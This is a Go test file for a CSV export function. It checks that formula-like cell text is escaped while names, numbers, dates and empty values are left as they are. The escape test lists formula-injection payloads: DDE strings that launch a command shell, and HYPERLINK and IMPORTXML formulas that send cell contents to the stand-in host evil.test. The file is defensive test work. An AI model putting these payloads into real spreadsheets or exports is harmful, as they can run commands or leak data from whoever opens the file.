package csvexport

import (
	"testing"
	"time"

	"portal/api/clock"
	"portal/api/money"
)

func TestFormulaTextIsEscaped(t *testing.T) {
	t.Parallel()
	type words string
	for _, s := range []string{
		`=1+1`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", `=cmd|' /C calc'!A0`,
		`=HYPERLINK("https://evil.test?x="&A1,"Open")`, `=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")`,
		`-2+3+cmd|' /C calc'!E1`, "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", `-`, `=`,
	} {
		for _, value := range []any{s, &s, words(s), new(words(s))} {
			if got := text(value); got != "'"+s {
				t.Errorf("%q is %q as %T", s, got, value)
			}
		}
	}
}

func TestOrdinaryTextIsUnchanged(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"", "Dana Whitfield", "a=b", "(512) 555-0142", "José Ñandú", "O'Brien", `"quoted"`, "one, two",
		"line\nline", "1450.00",
	} {
		if got := text(s); got != s {
			t.Errorf("%q is %q", s, got)
		}
	}
	if got := text("a\xffb"); got != "a\uFFFDb" {
		t.Errorf("invalid UTF-8 is %q", got)
	}
}

func TestNumbersAndDatesAreNotEscaped(t *testing.T) {
	t.Parallel()
	at := clock.At(clock.Day(2026, 11, 26).Std())
	for want, value := range map[string]any{
		"-1450.00":   money.Dollars(-1450),
		"1450.50":    new(money.Cents(145_050)),
		"-3":         -3,
		"1974":       new(1974),
		"250":        new(int64(250)),
		"2026-11-26": clock.Day(2026, 11, 26),
		at.String():  &at,
		"1.2":        1200 * time.Microsecond,
		"yes":        true,
		"no":         false,
	} {
		if got := text(value); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
	for _, absent := range []any{nil, (*string)(nil), (*money.Cents)(nil), (*int)(nil), (*clock.Date)(nil)} {
		if got := text(absent); got != "" {
			t.Errorf("an absent %T is %q", absent, got)
		}
	}
}
